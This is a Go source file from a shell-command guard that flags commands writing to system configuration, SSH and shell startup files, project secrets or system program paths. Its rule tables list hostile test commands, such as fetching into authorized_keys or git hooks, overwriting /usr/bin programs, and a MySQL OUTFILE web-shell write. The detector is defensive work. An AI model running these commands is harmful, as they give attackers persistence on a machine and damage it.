package command

import (
	"strings"

	"hermes/internal/guard"
	"hermes/internal/shell"
	"hermes/internal/shell/code"
)

// Files that tools write because an option or an operand names them: where redirections, copies and edits are asked
// about, these are too.
func toolWrites() table {
	const why = "changes a file that decides over the machine or the account"
	return table{
		{
			Key:    "overwrite system config",
			Harms:  guard.Host,
			Match:  outputs((*ctx).isSystemConfig),
			Why:    "changes the system's configuration",
			Remedy: "write it here first: `curl -o ./hosts https://example.com/hosts`",
			Hits: []string{
				"wget -O /etc/cron.d/x https://x.example/c", "curl --output-dir / -o etc/cron.d/x https://x.example/c", "sort -o /etc/cron.d/x job", "openssl enc -in x -out /etc/cron.d/x",
				"ffmpeg -i x -y /etc/hosts", "csplit -f /etc/cron.d/x job 1", "find . -fprintf /etc/cron.d/x y", "iptables-save -f /etc/cron.d/x", "touch /etc/x", "cd /etc && curl -O https://x.example/hosts",
				"gcc -o /etc/x a.c", "tcpdump -i lo -w /etc/x", "docker cp web:/x /etc/hosts", "ex -sc x /etc/hosts", "gawk -i inplace 1 /etc/passwd", "perl -pi -e s/a/b/ /etc/hosts", "unlink /etc/passwd", "split -b 10 x /etc/cron.d/", "script -c id /etc/profile.d/x.sh", "sqlite3 x.db '.output /etc/cron.d/x' .dump",
			},
			Passes: []string{
				"curl -o ./hosts https://example.com/hosts", "wget -O - https://example.com/", "sort -o names.txt names.txt", "sort /etc/passwd", "ffmpeg -i a.mp4 b.mp3", "openssl x509 -in /etc/ssl/x.pem -noout",
				"find /etc -name '*.conf'", "tcpdump -r /etc/x", "docker cp /etc/hosts web:/x", "awk 1 /etc/passwd", "vim -R /etc/hosts", "aws s3 cp dist s3://b/ --recursive --exclude /etc/x",
			},
		},
		{
			Key:    "tool output into sensitive credential/SSH/shell-rc path",
			Harms:  guard.Host,
			Match:  outputs(isTakeover),
			Why:    why,
			Remedy: "write it here first: `curl -o ./bashrc https://example.com/b`",
			Hits: []string{
				"curl -o ~/.bashrc https://x.example/b", "curl -s https://x.example/k -o ~/.ssh/authorized_keys", "aria2c -d ~/.ssh -o authorized_keys https://x.example/k", "wget -P ~/.ssh https://x.example/config",
				"curl -o .git/hooks/pre-commit https://x.example/h", "wget -O ~/.config/systemd/user/x.service https://x.example/s", "dasel put -f x -o ~/.hermes/config.yaml", "touch ~/.ssh/rc",
			},
			Passes: []string{"curl -o ./bashrc https://example.com/b", "wget https://example.com/config", "ssh-keygen -f ~/.ssh/id_ed25519", "touch notes.md", "curl -fLo ~/.local/bin/tool https://example.com/tool"},
		},
		{
			Key:    "overwrite project env/config via tool output",
			Harms:  guard.Work,
			Match:  outputs((*ctx).isProjectConfig),
			Why:    "changes the project's secrets or configuration",
			Remedy: "write an example file: `curl -o env.example https://example.com/env`",
			Hits:   []string{"curl -o .env https://x.example/env", "gpg -o .env -d .env.gpg", "truncate -s 0 .env", "sops -d --output .env.production enc.env"},
			Passes: []string{"curl -o env.example https://example.com/env", "gpg -o notes.txt -d notes.gpg", "touch .env.example.md#"},
		},
		{
			Key:    "program text writes to a sensitive path",
			Harms:  guard.Host,
			Match:  match{on: onPayload, test: textWrites},
			Why:    why,
			Remedy: "write it here first: `awk '{print > \"out.txt\"}' job`",
			Hits:   []string{`awk '{print > "/etc/cron.d/x"}' job`, "sed -n 'w /etc/cron.d/x' job", "vi -c ':w! /etc/hosts' x", `duckdb -c "COPY (SELECT 1) TO '/etc/cron.d/x'"`},
			Passes: []string{`awk '{print > "out.txt"}' job`, "sed -n 'w out.txt' job", "vi -c ':wq' x", `duckdb -c "COPY (SELECT 1) TO 'out.csv'"`},
		},
		{
			Key:    "database writes a file on its server",
			Harms:  guard.Host | guard.Remote,
			Match:  match{on: onPayload, test: intoFile},
			Why:    "makes the server write a file where it can be run",
			Remedy: "let the client write it: `mysql -e 'SELECT 1' app`",
			Hits:   []string{"mysql -e \"SELECT '<?php system(1);' INTO OUTFILE '/var/www/x.php'\"", "mysql -e \"SELECT x INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'\""},
			Passes: []string{"mysql -e 'SELECT 1' app", "mysql -e \"SELECT 'INTO' FROM t\" app"},
		},
		{
			Key:    "replacement of a system program",
			Harms:  guard.Host,
			Match:  match{on: onWrite, test: replacesProgram},
			Why:    "puts another program in the place of one that others run",
			Remedy: "install it for yourself: `install -m 755 tool ~/.local/bin/tool`",
			Hits:   []string{"ln -sf /tmp/x /usr/bin/python3", "install -D /tmp/x /usr/local/bin/sudo", "cp evil /bin/ls", "mv x /usr/lib/libc.so.6", "cat x > /usr/sbin/sshd", "curl -o /usr/bin/git https://x.example/g", "echo x | sudo tee /boot/grub/grub.cfg"},
			Passes: []string{"install -m 755 tool ~/.local/bin/tool", "sudo install -m 755 tool /usr/local/bin/tool", "cp /usr/bin/python3 ./python", "ln -s /usr/bin/python3 bin/python"},
		},
		{
			Key:    "unpacking over the system",
			Harms:  guard.Host,
			Match:  by(unpacksOver, "tar", "bsdtar", "gtar", "unzip", "7z", "7za", "7zz", "cpio", "pax", "patch", "rsync", "git", "dpkg-deb", "restic", "borg"),
			Why:    "writes whatever the archive names, outside the folder you are in",
			Remedy: "unpack it into a folder: `tar -xf x.tar -C ./x`",
			Hits: []string{
				"tar xf evil.tar -C / --overwrite", "tar xPf evil.tar", "tar --absolute-names -xf x.tar", "unzip -o x.zip -d /", `tar xf "$T" -C /`, "unzip x.zip -d ~/.ssh", "cpio -idm -D / < x.cpio", "patch -d / -p0 < x.patch",
				"git apply --unsafe-paths --directory=/ x.patch", "7z x a.7z -o/etc", "cd / && tar xzf x.tgz", "tar -xzf x.tgz --directory=/usr", "tar -C ~ -xf dotfiles.tar",
			},
			Passes: []string{"tar -xf x.tar -C ./x", "tar -C / -czf /tmp/etc.tgz etc", "unzip -q x.zip -d /tmp/dl", "7z x a.7z -o/tmp/out", "patch -p1 < x.patch", "git apply x.patch", "tar -tPf x.tar", "cpio -it < x.cpio",
				"tar -xzf go.tgz -C /usr/local", "tar -xf x.tar -C ~/src"},
		},
	}
}

// writingTools names the programs whose output files toolTargets knows.
func writingTools() []string {
	return []string{
		"curl", "wget", "aria2c", "axel", "http", "https", "xh", "lwp-download", "gdown", "yt-dlp", "youtube-dl", "sort", "uniq", "openssl", "ffmpeg", "csplit", "split", "find", "tar", "zip", "7z",
		"gcc", "g++", "cc", "c++", "clang", "clang++", "ld", "as", "rustc", "go", "gpg", "gpg2", "age", "sops", "base64", "xxd", "iconv", "pandoc", "strace", "ltrace", "script", "tcpdump", "tshark", "nmap",
		"mysqldump", "pg_dump", "pg_dumpall", "mongodump", "iptables-save", "ip6tables-save", "xmllint", "xsltproc", "convert", "magick", "wkhtmltopdf", "wkhtmltoimage", "git", "docker", "podman", "kubectl", "aws",
		"gsutil", "rclone", "ditto", "touch", "truncate", "sponge", "ed", "ex", "patch", "shred", "perl", "ruby", "unlink", "gawk", "yq", "dasel", "crudini", "augtool", "redis-cli", "pip-compile", "cut", "envsubst",
		"dos2unix", "unix2dos", "logsave", "fetch", "ftp", "ar", "valgrind", "perf", "objcopy", "install-info", "msgfmt", "jo", "mcopy", "sqlite3", "qemu-img", "dd", "rst2html", "hexdump", "vipw", "tic",
	}
}

// outputs holds when such a tool writes to such a path.
func outputs(is place) match {
	return match{names: writingTools(), test: func(c *ctx, i int) (span, bool) {
		if c.onlyReads(i) {
			return span{}, false
		}
		return c.find(c.toolTargets(i), is)
	}}
}

// onlyReads tells whether a tool that could write is in a mode in which it does not.
func (c *ctx) onlyReads(i int) bool {
	switch c.name(i) {
	case "go", "git", "docker", "podman", "kubectl", "aws", "sqlite3":
		return len(c.args(i)) < 3
	}
	return false
}

// toolTargets returns what the tool of command i writes to by itself.
func (c *ctx) toolTargets(i int) []target {
	dir := c.cmd(i).Dir
	out := c.written(i)
	for _, w := range c.values(i, outputOptions(c.name(i))) {
		out = append(out, c.targets(w, dir)...)
	}
	args := c.args(i)
	last := args[len(args)-1]
	switch c.name(i) {
	case "curl":
		out = append(out, c.fetchedTo(i, "--output-dir", "-o --output", "-O --remote-name")...)
	case "wget":
		out = append(out, c.fetchedTo(i, "-P --directory-prefix", "", "*")...)
	case "aria2c":
		out = append(out, c.fetchedTo(i, "-d --dir", "-o --out", "*")...)
	case "ffmpeg", "convert", "magick", "wkhtmltopdf", "wkhtmltoimage", "lwp-download", "ditto", "mcopy", "split", "script":
		if len(args) > 2 && !strings.HasPrefix(last.Text, "-") {
			out = append(out, c.targets(last, dir)...)
		}
	case "uniq", "xxd", "iconv":
		if w, ok := c.operand(i, 1); ok {
			out = append(out, c.targets(w, dir)...)
		}
	case "sqlite3":
		for _, w := range args[1:] {
			for _, o := range [...]string{".output ", ".once ", ".backup ", ".save ", ".log ", ".clone "} {
				if strings.HasPrefix(w.Text, o) {
					out = append(out, c.targets(w.Slice(len(o)), dir)...)
				}
			}
		}
	case "logsave", "zip", "unlink", "crudini":
		if w, ok := c.operand(i, 0); ok && (len(args) > 2 || c.name(i) == "unlink") {
			out = append(out, c.targets(w, dir)...)
		}
	case "docker", "podman", "kubectl", "aws", "gsutil", "rclone":
		if leavesOut(args[len(args)-2].Text) {
			break
		}
		if anyWord(args, "cp", "copy", "copyto", "sync", "mv", "move") && !strings.Contains(last.Text, ":") {
			out = append(out, c.targets(last, dir)...)
		}
	case "gawk", "yq", "dos2unix", "unix2dos", "dasel":
		if c.name(i) == "dos2unix" || c.name(i) == "unix2dos" || anyWord(args, "-i", "--inplace", "--in-place", "inplace", "-iinplace", "put", "delete") {
			out = append(out, c.operandTargets(i)...)
		}
	case "tar":
		if tarPacks(args) {
			for _, w := range c.values(i, "-f --file") {
				out = append(out, c.targets(w, dir)...)
			}
		}
	}
	return out
}

// outputOptions lists the options of a tool whose value is a file it writes.
func outputOptions(name string) string {
	switch name {
	case "curl":
		return "--trace --trace-ascii --stderr --etag-save --hsts --libcurl"
	case "wget":
		return "--save-cookies --warc-file --hsts-file --rejected-log"
	case "axel", "http", "https", "xh", "yt-dlp", "youtube-dl", "ld", "as", "gpg", "gpg2", "age", "sops", "pandoc", "strace", "ltrace", "xmllint", "xsltproc", "base64", "iconv", "gcc", "g++", "cc", "c++",
		"clang", "clang++", "rustc", "go", "dasel", "pip-compile", "mongodump", "tic":
		return "-o --output --out"
	case "git":
		return "--output"
	case "fetch", "ftp", "msgfmt":
		return "-o --output-file"
	case "ar":
		return "--output"
	case "valgrind":
		return "--log-file --xml-file"
	case "perf":
		return "-o --output"
	case "gdown":
		return "-O --output"
	case "openssl":
		return "-out -keyout -writerand -sess_out -keylogfile -msgout"
	case "csplit":
		return "-f --prefix"
	case "find":
		return "-fprintf -fprint -fprint0 -fls"
	case "tcpdump", "tshark":
		return "-w"
	case "nmap":
		return "-oN -oX -oG -oA -oS"
	case "mysqldump":
		return "-r --result-file --tab -T"
	case "pg_dump", "pg_dumpall", "iptables-save", "ip6tables-save":
		return "-f --file"
	case "redis-cli":
		return "--rdb"
	case "uniq", "sort", "split":
		return "-T --temporary-directory"
	}
	return ""
}

// values returns the values of options: behind the option, behind "=", or glued to a short one. It knows nothing of the
// tool's other options, so it may take a value for an option, never the other way round.
func (c *ctx) values(i int, options string) (out []shell.Word) {
	if options == "" {
		return nil
	}
	args := c.args(i)
	for k := 1; k < len(args); k++ {
		t := args[k].Text
		if t == "--" {
			break
		}
		if len(t) < 2 || t[0] != '-' && !(k == 1 && c.name(i) == "tar") {
			continue
		}
		for list := options; list != ""; {
			var o string
			o, list, _ = cut(list, ' ')
			short := len(o) == 2 && t[1] != '-'
			switch {
			case t == o, short && t[len(t)-1] == o[1] && (len(t) == 2 || bundled(t[1:])):
				if k+1 < len(args) {
					out = append(out, args[k+1])
				}
			case len(o) > 2 && strings.HasPrefix(t, o) && t[len(o)] == '=':
				out = append(out, args[k].Slice(len(o)+1))
			case short && strings.HasPrefix(t, o):
				out = append(out, args[k].Slice(2))
			}
		}
	}
	return out
}

// bundled tells whether s could be a bundle of short options.
func bundled(s string) bool {
	for k := range len(s) {
		if b := s[k]; (b < 'a' || b > 'z') && (b < 'A' || b > 'Z') {
			return false
		}
	}
	return len(s) < 8
}

// fetchedTo returns the files that a download lands in: the named ones below its directory, or the last element of its
// addresses.
func (c *ctx) fetchedTo(i int, dirs, named, remote string) (out []target) {
	in := c.values(i, dirs)
	if len(in) == 0 {
		in = []shell.Word{{Text: "."}}
	}
	names := c.values(i, named)
	if len(names) == 0 && (remote == "*" || c.given(i, remote)) {
		for _, w := range c.args(i)[1:] {
			if at := strings.Index(w.Text, "://"); at > 0 {
				if n := strings.LastIndexByte(w.Text, '/'); n > at+2 && n+1 < len(w.Text) {
					names = append(names, w.Slice(n+1))
				}
			}
		}
	}
	for _, d := range in {
		for _, n := range names {
			if strings.HasPrefix(n.Text, "/") && d.Text == "." {
				continue
			}
			w := d
			w.Text = strings.TrimRight(d.Text, "/") + "/" + n.Text
			w.Holes = append(d.Holes[:len(d.Holes):len(d.Holes)], n.Holes...)
			w.Start, w.End = n.Start, n.End
			out = append(out, c.targets(w, c.cmd(i).Dir)...)
		}
	}
	return out
}

// given tells whether an argument is one of the options, alone or as a letter of a bundle.
func (c *ctx) given(i int, options string) bool {
	for _, w := range c.args(i)[1:] {
		t := w.Text
		for list := options; list != ""; {
			var o string
			o, list, _ = cut(list, ' ')
			if t == o || len(o) == 2 && len(t) > 2 && t[0] == '-' && t[1] != '-' && bundled(t[1:]) && strings.IndexByte(t, o[1]) > 0 {
				return true
			}
		}
	}
	return false
}

// tarPacks tells whether tar writes an archive.
func tarPacks(args []shell.Word) bool {
	for k, w := range args[1:] {
		t := w.Text
		if t == "--create" || t == "--append" || t == "--update" || k == 0 && t != "" && t[0] != '-' && strings.ContainsAny(t, "cru") ||
			len(t) > 1 && t[0] == '-' && t[1] != '-' && bundled(t[1:]) && strings.ContainsAny(t, "cru") {
			return true
		}
	}
	return false
}

// isTakeover tells whether writing the target can take over the account, outside the system's configuration.
func isTakeover(c *ctx, t target) bool {
	if c.isRawDevice(t) || c.isLogin(t) || c.isHermesFile(t) {
		return true
	}
	if p := t.path; strings.HasPrefix(p, ".git/hooks/") || strings.Contains(p, "/.git/hooks/") || under(p, "/var/spool/cron") || p == "/proc/sysrq-trigger" {
		return true
	}
	p, ok := c.fromHome(t)
	if !ok {
		return false
	}
	for _, d := range [...]string{".config/systemd", ".config/autostart", "Library/LaunchAgents", ".gnupg", ".local/share/systemd", ".hermes", ".config/fish"} {
		if inside(p, d) {
			return true
		}
	}
	return p == ".gitconfig" || p == ".config/git/config" || p == ".vimrc" || p == ".tmux.conf"
}

// textWrites holds for program text of a language that is not judged as a whole when it names such a file to write.
func textWrites(c *ctx, i int) (span, bool) {
	p := c.payload(i)
	for _, list := range [...][]code.Fragment{p.Report.Writes, p.Report.Deletes} {
		for _, f := range list {
			if !f.Known {
				continue
			}
			for _, t := range c.targets(p.Text.Lit(f.Text), c.cmd(p.Command).Dir) {
				if c.isSystemConfig(t) || isTakeover(c, t) || systemProgram(t.path) {
					return at(p.Text), true
				}
			}
		}
	}
	return span{}, false
}

// intoFile holds for SQL that makes the server write a file.
func intoFile(c *ctx, i int) (span, bool) {
	p := c.payload(i)
	if p.Lang != code.SQL {
		return span{}, false
	}
	for _, s := range p.Report.SQL {
		if s.Object == "OUTFILE" || s.Object == "DUMPFILE" {
			return at(p.Text), true
		}
	}
	return span{}, false
}

// replacesProgram holds for a command that writes where the system's programs and libraries are.
func replacesProgram(c *ctx, i int) (span, bool) {
	switch c.name(i) {
	case "rm", "chmod", "chown", "chattr", "setfacl", "mkdir":
		return span{}, false
	}
	list := c.writes(i)
	if n := c.name(i); n == "curl" || n == "wget" {
		list = append(list, c.toolTargets(i)...)
	}
	return c.find(list, func(_ *ctx, t target) bool { return systemProgram(t.path) })
}

// systemProgram tells whether p is a program, library or boot file that comes with the system, or shadows one.
func systemProgram(p string) bool {
	for _, d := range [...]string{"/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/lib", "/usr/lib64", "/usr/libexec", "/lib", "/lib64", "/boot", "/usr/share/polkit-1", "/System"} {
		if inside(p, d) {
			return true
		}
	}
	name, ok := strings.CutPrefix(p, "/usr/local/bin/")
	if !ok {
		if name, ok = strings.CutPrefix(p, "/usr/local/sbin/"); !ok {
			return false
		}
	}
	switch name {
	case "sudo", "su", "doas", "ssh", "scp", "ls", "cat", "bash", "sh", "zsh", "git", "python", "python3", "perl", "id", "ps", "cp", "mv", "rm", "login", "passwd", "apt", "apt-get", "systemctl", "env",
		"grep", "awk", "sed", "curl", "wget", "hermes", "make", "gcc", "cc", "ld", "gpg", "sshd", "mount", "test", "true":
		return true
	}
	return false
}

// unpacksOver holds when an archive or a patch is unpacked over the system or the home directory, or may write to
// absolute paths.
func unpacksOver(c *ctx, i int) (span, bool) {
	args := c.args(i)
	var dirs []shell.Word
	switch name := c.name(i); name {
	case "tar", "bsdtar", "gtar":
		if !tarUnpacks(args) {
			return span{}, false
		}
		if c.given(i, "-P --absolute-names --absolute-paths") || len(args) > 1 && args[1].Text != "" && args[1].Text[0] != '-' && strings.Contains(args[1].Text, "P") {
			return span{}, true
		}
		dirs = c.values(i, "-C --directory --cd")
	case "unzip":
		if c.given(i, "-l -t -v -p -Z -z") {
			return span{}, false
		}
		dirs = c.values(i, "-d")
	case "7z", "7za", "7zz":
		if !anyWord(args, "x", "e") {
			return span{}, false
		}
		for _, w := range args[1:] {
			if strings.HasPrefix(w.Text, "-o") {
				dirs = append(dirs, w.Slice(2))
			}
		}
	case "cpio", "pax":
		if !c.given(i, "-i --extract -r") || c.given(i, "-t --list") {
			return span{}, false
		}
		dirs = c.values(i, "-D --directory")
	case "patch":
		if c.given(i, "--dry-run") {
			return span{}, false
		}
		dirs = c.values(i, "-d --directory")
	case "git":
		if !anyWord(args, "apply", "am") || !anyWord(args, "--unsafe-paths") {
			return span{}, false
		}
		return span{}, true
	case "restic", "borg":
		if !anyWord(args, "restore", "extract") {
			return span{}, false
		}
		dirs = c.values(i, "--target -t")
	case "dpkg-deb":
		if !c.given(i, "-x -X -R --extract --vextract") {
			return span{}, false
		}
		dirs = args[len(args)-1:]
	default:
		return span{}, false
	}
	if len(dirs) == 0 {
		dirs = []shell.Word{{Text: "."}}
	}
	for _, d := range dirs {
		s, ok := c.find(c.targets(d, c.cmd(i).Dir), func(c *ctx, t target) bool {
			return t.path != "/opt" && t.path != "/srv" && (c.isVital(t) || c.isSystemConfig(t) || isTakeover(c, t) || systemProgram(t.path)) ||
				c.isHome(t) && d.Text != "." && c.facts.Dir != t.path
		})
		if ok {
			return s, true
		}
	}
	return span{}, false
}

// tarUnpacks tells whether tar unpacks.
func tarUnpacks(args []shell.Word) bool {
	for k, w := range args[1:] {
		t := w.Text
		if t == "--extract" || t == "--get" || k == 0 && t != "" && t[0] != '-' && strings.Contains(t, "x") ||
			len(t) > 1 && t[0] == '-' && t[1] != '-' && bundled(t[1:]) && strings.Contains(t, "x") {
			return true
		}
	}
	return false
}

// anyWord tells whether one of the arguments is one of the words.
func anyWord(args []shell.Word, words ...string) bool {
	for _, w := range args[min(1, len(args)):] {
		if len(w.Holes) == 0 && has(words, w.Text) {
			return true
		}
	}
	return false
}

// by holds when one of the programs meets the condition.
func by(f test, names ...string) match {
	return match{names: names, test: func(c *ctx, i int) (span, bool) {
		if !has(names, c.name(i)) {
			return span{}, false
		}
		return f(c, i)
	}}
}
